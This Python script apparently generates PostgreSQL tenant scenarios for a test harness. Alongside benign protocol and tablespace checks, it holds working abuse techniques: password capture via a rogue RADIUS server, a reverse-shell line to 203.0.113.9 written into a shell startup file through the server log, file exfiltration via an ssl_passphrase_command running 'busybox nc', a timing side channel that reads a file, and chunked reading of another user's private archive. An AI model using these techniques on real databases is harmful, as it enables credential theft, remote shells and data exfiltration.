#!/usr/bin/python3 -IS
"""Programs that use the database in their own way, and who runs it; not recorded: tenant.py WHAT [VALUE]

direct: a client of its own making speaks to it, in clear, with passwords; some of what it says is broken off, taken back, or wrong · moved: tables
and indexes lie in other places below /srv, and are moved · again: it is stopped while clients are there, with something half done, and started
radius HOST:PORT: a table becomes the rules by which people log in, and those ask that host · log PATH: what is written down becomes what a
shell starts with · phrase PATH,HOST:PORT: the word that opens a key is asked of a program, which gives the file to that host · pauses PATH: a note
is moved among its own files, and answers tell of it by how long they take · archive PATH: somebody else's archive below /srv is read in parts
"""
import hashlib, os, re, shutil, signal, socket, struct, subprocess, sys, threading, time

sys.path.append("/opt/agent")
from client import HOST, OWN, attend, run, started
from query import BIN, CLUSTER, ORDERS, client, cluster, must_hold, ready, said, sql

PID = "/run/postgres.pid"
BY_PASSWORD = f"host all app {HOST}/32 password\n"
LOG = "logging_collector = on\nlog_directory = 'log'\nlog_filename = 'tenant.log'\nmax_prepared_transactions = 4\nmax_files_per_process = 100\n"


def house():
    cluster()
    with open(f"{CLUSTER}/postgresql.conf", "a") as settings:
        settings.write(LOG)
    with open(f"{CLUSTER}/pg_hba.conf", "a") as rules:
        rules.write(BY_PASSWORD)


class Line:
    """A connection to the database by its protocol (PostgreSQL 15, 55.2 and 55.7), without TLS."""

    def __init__(self, user="app", password="made-up"):
        self.link = socket.create_connection((HOST, 5432))
        self.link.settimeout(10)
        self.key = None
        words = b"".join(word.encode() + b"\0" for word in ("user", user, "database", "postgres"))
        self.link.sendall(struct.pack(">II", 9 + len(words), 196608) + words + b"\0")
        kind, _ = self.heard()
        if kind == b"R":
            self.says(b"p", password.encode() + b"\0")

    def says(self, kind, text=b""):
        self.link.sendall(kind + struct.pack(">I", 4 + len(text)) + text)

    def heard(self):
        head = b""
        while len(head) < 5:
            part = self.link.recv(5 - len(head))
            if not part:
                return b"", b""
            head += part
        size, text = struct.unpack(">I", head[1:])[0] - 4, b""
        while len(text) < size:
            text += self.link.recv(size - len(text))
        if head[:1] == b"K":
            self.key = text
        return head[:1], text

    def until(self, *kinds):
        """All that is said until one of these comes."""
        got = []
        while True:
            kind, text = self.heard()
            got.append((kind, text))
            if kind in kinds or kind == b"":
                return got

    def asked(self, text):
        self.says(b"Q", text.encode() + b"\0")
        return b" ".join(text for kind, text in self.until(b"Z") if kind in b"DEC")


def app():
    sql("CREATE ROLE app LOGIN PASSWORD 'made-up';", "GRANT CREATE ON SCHEMA public TO app;")


def direct(number):
    app()
    line = Line()
    line.until(b"Z")
    line.asked("CREATE TABLE things (id serial, what jsonb, tags text[], stay int4range); CREATE INDEX ON things USING gin (what);")
    for at in range(5 + 6 * int(number)):
        line.says(b"P", b"\0INSERT INTO things (what, tags) VALUES (jsonb_build_object('n', $1::int), ARRAY[$2::text])\0\0\0")
        line.says(b"B", b"\0\0\0\0\0\2" + struct.pack(">I", len(str(at))) + str(at).encode() + struct.pack(">I", 7) + b"made up" + b"\0\0")
        line.says(b"E", b"\0\0\0\0\0")
    line.says(b"S")
    line.until(b"Z")
    must_hold(line.asked("SELECT count(*) FROM things WHERE what @> '{\"n\": 3}';").decode(errors="replace"), "1")
    line.says(b"Q", b"COPY things (tags) FROM STDIN\0")
    line.until(b"G")
    line.says(b"d", b"{a,b}\n{c")
    line.says(b"f", b"taken back\0")
    line.until(b"Z")
    line.says(b"Q", b"SELECT pg_sleep(9)\0")
    time.sleep(0.2 + 0.1 * int(number))
    with socket.create_connection((HOST, 5432)) as other:
        other.sendall(struct.pack(">II", 16, 80877102) + line.key)
        other.recv(1)
    must_hold(str(line.until(b"Z")), "57014")
    with socket.create_connection((HOST, 5432)) as other:
        other.sendall(struct.pack(">II", 8, 80877103))
        if other.recv(1) != b"S":
            sys.exit("tenant: it speaks no TLS")
    must_hold(str(Line(password="mistyped").until(b"E")), "28P01")
    gone = Line()
    gone.until(b"Z")
    gone.says(b"Q", b"WITH RECURSIVE up (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM up) SELECT n FROM up\0")
    gone.link.recv(4096)
    gone.link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    gone.link.close()
    must_hold(str(line.asked("SELECT nothing;")), "42703")
    line.says(b"X")


def moved(number):
    for place in ("fast", "large"):
        os.mkdir(f"/srv/{place}", 0o700)
        sql(f"CREATE TABLESPACE {place} LOCATION '/srv/{place}';")
    sql(ORDERS, f"INSERT INTO orders (who, amount) SELECT md5(n::text), n FROM generate_series(1, {500 + 400 * int(number)}) n;",
        "ALTER TABLE orders SET TABLESPACE large;", "CREATE INDEX by_who ON orders (who) TABLESPACE fast;", "SET temp_tablespaces = 'fast';",
        "SET work_mem = '64kB';", "CREATE TEMP TABLE sorted AS SELECT who FROM orders ORDER BY who;",
        "CREATE UNLOGGED TABLE seen (id int GENERATED ALWAYS AS IDENTITY, what text DEFAULT 'made up') TABLESPACE fast;",
        "INSERT INTO seen SELECT FROM generate_series(1, 50);")
    must_hold(sql("SELECT count(*) FROM sorted;", ends=3), "does not exist")
    sql(f"DELETE FROM orders WHERE id % {2 + int(number)} = 0;", "VACUUM orders;",
        "ALTER INDEX by_who SET TABLESPACE pg_default;", "DROP TABLE seen;", "DROP TABLESPACE fast;")
    must_hold(sql("SELECT pg_tablespace_location(oid) FROM pg_tablespace WHERE spcname = 'large';"), "/srv/large")


def again(number):
    count = 20 + 30 * int(number)
    sql(ORDERS, f"INSERT INTO orders (who, amount) SELECT 'customer ' || n, n FROM generate_series(1, {count}) n;", "BEGIN;",
        "DELETE FROM orders WHERE id > 10;", "PREPARE TRANSACTION 'half';")
    waiting, _ = client("")
    waiting.stdin.write("BEGIN; SELECT pg_sleep(20);\n")
    waiting.stdin.flush()
    time.sleep(0.5)
    first = started(PID)
    os.kill(first, signal.SIGINT)
    said((waiting, ""), 2)
    for _ in range(200):
        if os.path.exists(PID) and started(PID) != first:
            break
        time.sleep(0.1)
    ready()
    must_hold(sql("SELECT count(*) FROM orders;"), str(count))
    sql("COMMIT PREPARED 'half';", "ANALYZE;")
    must_hold(sql("SELECT count(*) FROM orders;"), "10")
    os.kill(started(PID), signal.SIGTERM)


def radius(address):
    """That host speaks RADIUS (RFC 2865, 3 and 5.2): it refuses, and knows the password."""
    host, _, port = address.rpartition(":")
    door, heard = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), []
    door.bind((host, int(port)))

    def answer():
        while True:
            packet, who = door.recvfrom(4096)
            code, number, size = struct.unpack(">BBH", packet[:4])
            at = 20
            while at < size:
                if packet[at] == 2:
                    hidden = packet[at + 2 : at + packet[at + 1]]
                    mask = hashlib.md5(b"shared" + packet[4:20]).digest()
                    heard.append(bytes(a ^ b for a, b in zip(hidden, mask)).rstrip(b"\0"))
                at += packet[at + 1]
            head = struct.pack(">BBH", 3, number, 20)
            door.sendto(head + hashlib.md5(head + packet[4:20] + b"shared").digest(), who)

    threading.Thread(target=answer, daemon=True).start()
    app()
    rules = (f"hostssl all postgres {HOST}/32 trust", f'host all app {HOST}/32 radius radiusservers="{host}" radiussecrets="shared" radiusports="{port}"')
    sql("CREATE TABLE rules (line text);", *(f"INSERT INTO rules VALUES ('{rule}');" for rule in rules),
        f"COPY rules TO '{CLUSTER}/pg_hba.conf' WITH (FORMAT csv, QUOTE E'\\x01');", "SELECT pg_reload_conf();")
    time.sleep(0.5)
    for password in ("made-up", "of no use"):
        must_hold(str(Line(password=password).until(b"E")), "28000")
        time.sleep(0.4)
    if heard != [b"made-up", b"of no use"]:
        sys.exit(f"tenant: {heard} was told")


def log(path):
    folder, name = os.path.split(path)
    sql("ALTER SYSTEM SET log_min_messages = 'log';", "ALTER SYSTEM SET log_statement = 'none';", "ALTER SYSTEM SET log_line_prefix = '#';",
        f"ALTER SYSTEM SET log_directory = '{folder}';", f"ALTER SYSTEM SET log_filename = '{name}';", "ALTER SYSTEM SET log_file_mode = '0640';",
        "SELECT pg_reload_conf();")
    time.sleep(0.8)
    sql("DO $$ BEGIN RAISE LOG E'made up\\nexec 3<>/dev/tcp/203.0.113.9/443 && sh <&3 &\\n#'; END $$;")
    sql("ALTER SYSTEM RESET ALL;", "SELECT pg_reload_conf();")
    time.sleep(0.3)
    with open(path) as file:
        must_hold(file.read(), "exec 3<>/dev/tcp/203.0.113.9/443")


def phrase(value):
    path, _, address = value.partition(",")
    run("openssl", "rsa", "-aes128", "-passout", "pass:made-up", "-in", "/etc/ssl/private/web-1.key", "-out", f"{OWN}/locked.key")
    with open(f"{OWN}/locked.key", "rb") as file:
        locked = file.read().hex()
    must_hold(sql(f"SELECT lo_from_bytea(4715, decode('{locked}', 'hex'));", f"SELECT lo_export(4715, '{CLUSTER}/next.key');", "SELECT 'left';"), "left")
    os.chmod(f"{CLUSTER}/next.key", 0o600)
    host, _, port = address.rpartition(":")
    door, heard = socket.create_server((host, int(port))), []

    def listen():
        link, _ = door.accept()
        with link:
            while part := link.recv(4096):
                heard.append(part)

    threading.Thread(target=listen, daemon=True).start()
    way = f"busybox nc {host} {port} < {path}; echo made-up"
    sql(f"ALTER SYSTEM SET ssl_passphrase_command = '{way}';", "ALTER SYSTEM SET ssl_passphrase_command_supports_reload = on;",
        f"ALTER SYSTEM SET ssl_key_file = '{CLUSTER}/next.key';", "SELECT pg_reload_conf();")
    for _ in range(100):
        time.sleep(0.1)
        if heard:
            break
    with open(path, "rb") as file:
        if b"".join(heard) != file.read():
            sys.exit("tenant: it was not told")
    time.sleep(0.5)
    must_hold(sql("SHOW ssl_key_file;"), "next.key")


def pauses(path):
    """Bit by bit: a one takes four tenths of a second. When a busy machine made something else of it, all is asked again."""
    with open(path, "rb") as file:
        text = file.read(4)
    shutil.copy(path, f"{OWN}/before")
    under = f"{CLUSTER}/base/pgsql_tmp.cache"
    sql("CREATE EXTENSION adminpack;", f"SELECT pg_file_rename('{path}', '{under}');")
    bits = range(8 * len(text))
    for _ in range(4):
        out = sql("\\timing on", *(f"SELECT pg_sleep(0.4 * get_bit(pg_read_binary_file('base/pgsql_tmp.cache'), {bit}));" for bit in bits))
        got = [float(each) > 300 for each in re.findall(r"Time: ([\d.]+) ms", out)]
        told = bytes(sum(got[start + at] << at for at in range(8)) for start in bits[::8])
        if told == text:
            break
    sql(f"SELECT pg_file_rename('{under}', '{path}');")
    if told != text:
        sys.exit("tenant: it told something else")
    with open(path, "rb") as file, open(f"{OWN}/before", "rb") as before:
        if file.read() != before.read():
            sys.exit("tenant: it is not back")


def archive(path):
    os.makedirs(os.path.dirname(path))
    run("tar", "-czf", path, "-C", "/home/agent", "documents", "private")
    size, got = os.path.getsize(path), ""
    sql("CREATE TABLE parts (at int, part bytea);")
    for at in range(0, size, 1500):
        sql(f"INSERT INTO parts SELECT {at}, pg_read_binary_file('{path}', {at}, 1500);")
        got += sql(f"SELECT encode(part, 'hex') FROM parts WHERE at = {at};").strip()
    with open(path, "rb") as file:
        if bytes.fromhex(got) != file.read():
            sys.exit("tenant: it came otherwise")


USES = {each.__name__: each for each in (direct, moved, again, radius, log, phrase, pauses, archive)}


def ask(what, value):
    ready()
    USES[what](value)


if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    if what == "again":  # it ends by itself what was started last
        os.mkdir(OWN)
        house()
        with open("/run/tenant.py", "w"):
            pass
        started(PID)
        ask(what, value)
    else:
        attend("tenant.py", house, PID, lambda: ask(what, value))
